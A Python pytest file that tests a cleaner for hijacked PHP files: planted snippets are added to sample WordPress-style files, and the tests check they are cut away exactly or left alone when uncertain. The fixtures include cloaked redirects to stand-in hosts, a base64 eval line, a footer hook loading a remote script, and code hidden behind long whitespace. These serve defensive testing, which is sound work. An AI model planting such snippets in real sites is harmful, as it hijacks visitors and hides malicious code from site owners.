"""A cut leaves the file as it was before: byte for byte, or it is not offered."""

from collections.abc import Callable

import pytest

from unhijack.parse.server.php import php_marks
from unhijack.parse.server.place import Place

CLASS = b"""<?php
/**
 * A parish's calendar.
 */

namespace Parish;

use DateTime;

class Calendar
{
    private $days = array();

    public function add($day)
    {
        $this->days[] = $day;
    }
}
"""
PAGE = b"""<?php
require 'top.php';
$title = 'News';
?>
<!DOCTYPE html>
<html><head><title><?php echo $title; ?></title>
</head>
<body>
<p>Welcome.</p>
</body></html>
"""
FUNCTIONS = b"""<?php

function theme_setup() {
    add_theme_support('title-tag');
}
add_action('after_setup_theme', 'theme_setup');

function theme_menu($items) {
    return $items . '<li>Home</li>';
}
add_filter('wp_nav_menu_items', 'theme_menu');
"""
CLOSED = b"""<?php
define('DB_NAME', 'parish');
$table_prefix = 'wp_';
require_once 'settings.php';
?>
"""
CLEAN = {"class": CLASS, "page": PAGE, "functions": FUNCTIONS, "closed": CLOSED}

GATE = (
    b"if(isset($_SERVER['HTTP_REFERER'])&&preg_match('/google|bing/',$_SERVER['HTTP_REFERER']))"
    b"{header('Location: http://pre.example/');exit;}"
)
HELPER = (
    b"function zq_bot(){return preg_match('/bot|crawl/i',$_SERVER['HTTP_USER_AGENT']);}\n"
    b"$zq_url=base64_decode('aHR0cDovL2dvLmV4YW1wbGUv');\n"
    b"if(!zq_bot()){header('Location: '.$zq_url);exit;}"
)
RUNS = b"@error_reporting(0); eval(base64_decode('ZWNobyAnaGFybWxlc3MnOw=='));"
HOOK = (
    b"function zq_foot() {\n    if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') === false) {\n"
    b"        echo '<script src=\"//s.example/x.js\"></script>';\n    }\n}\n"
    b"add_action('wp_footer', 'zq_foot');"
)
PLANTED = {"gate": GATE, "helper": HELPER, "runs": RUNS, "hook": HOOK}

Inject = Callable[[bytes, bytes], bytes]
BEFORE: dict[str, Inject] = {
    "block": lambda clean, code: b"<?php " + code + b" ?>" + clean,
    "block-lines": lambda clean, code: b"<?php\n" + code + b"\n?>\n" + clean,
    "same-line": lambda clean, code: b"<?php " + code + clean[5:],
    "pushed-right": lambda clean, code: b"<?php" + b" " * 200 + code + clean[5:],
    "markers": lambda clean, code: b"<?php /*a1b2c3*/ " + code + b" /*a1b2c3*/" + clean[5:],
    "marker-lines": lambda clean, code: (
        b"<?php\n//###==###\n" + code + b"\n//###==###\n" + clean[6:]
    ),
}
BEHIND: dict[str, Inject] = {
    "at-once": lambda clean, code: clean + code,
    "line": lambda clean, code: clean + code + b"\n",
    "blank-line": lambda clean, code: clean + b"\n" + code + b"\n",
}


def cut(content: bytes) -> bytes | None:
    """The file without what the marks agree to cut; None where they offer nothing."""
    marks = [mark for mark in php_marks(content, Place("a.php")) if mark.confidence >= 0.5]
    assert marks
    spans = {mark.cut for mark in marks}
    assert len(spans) == 1
    span = spans.pop()
    return None if span is None else content[: span[0]] + content[span[1] :]


@pytest.mark.parametrize("clean", CLEAN.values(), ids=CLEAN)
@pytest.mark.parametrize("code", PLANTED.values(), ids=PLANTED)
@pytest.mark.parametrize("inject", BEFORE.values(), ids=BEFORE)
def test_code_put_before_a_file_is_cut(clean: bytes, code: bytes, inject: Inject) -> None:
    assert cut(inject(clean, code)) == clean


@pytest.mark.parametrize("clean", [CLASS, FUNCTIONS], ids=["class", "functions"])
@pytest.mark.parametrize("code", PLANTED.values(), ids=PLANTED)
@pytest.mark.parametrize("inject", BEHIND.values(), ids=BEHIND)
def test_code_put_behind_a_file_is_cut(clean: bytes, code: bytes, inject: Inject) -> None:
    assert cut(inject(clean, code)) == clean


@pytest.mark.parametrize("code", PLANTED.values(), ids=PLANTED)
def test_a_block_within_a_page_is_cut(code: bytes) -> None:
    block = b"<?php " + code + b" ?>"
    assert cut(PAGE.replace(b"</head>", block + b"</head>")) == PAGE
    assert cut(PAGE.replace(b"</body>", block + b"\n</body>")) == PAGE
    assert cut(CLOSED + block) == CLOSED


def test_markup_around_code_is_cut() -> None:
    script = b'<script src="//s.example/j.js"></script>'
    assert cut(script + CLASS) == CLASS
    assert cut(script + b"\n" + FUNCTIONS) == FUNCTIONS
    assert cut(CLOSED + script) == CLOSED


def test_a_comment_that_nobody_owns_stays() -> None:
    clean = CLASS + b"\n// vim: ts=4\n"
    assert cut(clean + GATE) == clean


@pytest.mark.parametrize(
    "content",
    [
        # it uses what the file defines, or the file uses what it defines
        b"<?php\n$url = 'http://a.example/';\n"
        + GATE.replace(b"'/google", b"$url.'/google")
        + b"\n"
        b"echo $url;\n",
        b"<?php\nfunction go() {" + GATE + b"}\ngo();\nrun();\nfunction run() { go(); }\n",
        # inside a function of the file
        CLASS.replace(b"$this->days[] = $day;", GATE + b"\n        $this->days[] = $day;"),
        # inside a function of the file that stands last
        FUNCTIONS.replace(b"    return $items", b"    " + GATE + b"\n    return $items"),
        # inside a branch of the file
        b"<?php\nstart();\nif (ready()) {\n    show_news();\n    " + GATE + b"\n}\n",
        # in an object without a name
        b"<?php\nreturn new class {\n    public function go()\n    {\n        "
        + GATE
        + b"\n    }\n};\n",
        # between statements of the file
        FUNCTIONS.replace(b"\nfunction theme_menu", GATE + b"\nfunction theme_menu"),
    ],
    ids=[
        *("shared-variable", "shared-function", "in-a-method", "in-a-function", "in-a-branch"),
        *("in-an-object", "in-the-middle"),
    ],
)
def test_what_is_not_certain_is_not_cut(content: bytes) -> None:
    assert cut(content) is None


def test_a_block_of_an_honest_file_is_not_cut_with_it() -> None:
    """The planted statement stands first; the next uses a variable of the same name."""
    content = (
        b"<?php\n$u='http://a.example/';"
        + GATE.replace(b"'http://pre.example/'", b"$u")
        + (b"\n$u = home();\nshow($u);\n")
    )
    assert cut(content) is None


def test_nothing_is_cut_of_a_file_that_was_read_in_part() -> None:
    """Its end is not known, so nothing is certain there."""
    binary = b"<?php\nuse_it();\n\0\n" + GATE + b"\n" + b"// more\n" * 40_000
    marks = php_marks(binary, Place("a.php"))
    assert all(mark.cut is None and not mark.whole for mark in marks)
